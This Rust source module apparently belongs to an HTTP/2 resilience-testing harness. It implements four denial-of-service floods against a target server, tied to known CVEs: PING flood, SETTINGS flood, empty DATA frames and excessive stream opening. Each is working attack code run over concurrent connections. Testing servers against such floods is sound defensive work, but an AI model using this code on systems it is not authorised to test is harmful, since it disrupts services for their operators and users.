//! Frames that carry nothing, and streams beyond what is allowed.

use std::sync::Arc;

use super::{
    peer::flood,
    stage::{Attack, HEALTH_CHECK, HEALTH_WATCH, Target},
    wire::{Block, Frames, HEADER_TABLE_SIZE, stream},
};

/// Pings, each of which is to be answered (CVE-2019-9512).
pub(super) const PINGS: Attack = Attack::by_anybody("ping_flood", |target| Box::pin(pings(target)));

async fn pings(target: Arc<Target>) {
    let ping = |frames: Frames, _| frames.ping(0, [7; 8]);
    again_and_again(&target, Frames::opening(&[]), (0..1_000).fold(Frames::new(), ping)).await;
}

/// Settings, each of which is to be acknowledged (CVE-2019-9515).
pub(super) const SETTINGS: Attack =
    Attack::by_anybody("settings_flood", |target| Box::pin(settings(target)));

async fn settings(target: Arc<Target>) {
    let settings = |frames: Frames, number: u32| {
        frames.settings(&[(HEADER_TABLE_SIZE, number % 2 * 4096)]).settings(&[])
    };
    again_and_again(&target, Frames::opening(&[]), (0..500).fold(Frames::new(), settings)).await;
}

/// DATA without data (CVE-2019-9518).
pub(super) const EMPTY_DATA: Attack =
    Attack::by_anybody("zero_length_data", |target| Box::pin(empty_data(target)));

async fn empty_data(target: Arc<Target>) {
    let opening = Frames::opening(&[]).headers(1, &Block::call(HEALTH_CHECK, None));
    let empty = |frames: Frames, _| frames.data(1, &[]);
    again_and_again(&target, opening, (0..1_000).fold(Frames::new(), empty)).await;
}

async fn again_and_again(target: &Target, opening: Frames, frames: Frames) {
    let one = |_| flood(target, opening.clone(), |_| Some(frames.clone()));
    futures_util::future::join_all((0..4).map(one)).await;
}

/// Streams without end, each to be refused.
pub(super) const STREAMS: Attack =
    Attack::by_anybody("too_many_streams", |target| Box::pin(streams(target)));

async fn streams(target: Arc<Target>) {
    let headers = Block::call(HEALTH_WATCH, None);
    let chunk = |turn: u32| {
        let open = |frames: Frames, number| frames.headers(stream(number), &headers);
        Some((turn * 200..(turn + 1) * 200).fold(Frames::new(), open))
    };
    let one = |_| flood(&target, Frames::opening(&[]), chunk);
    futures_util::future::join_all((0..4).map(one)).await;
}
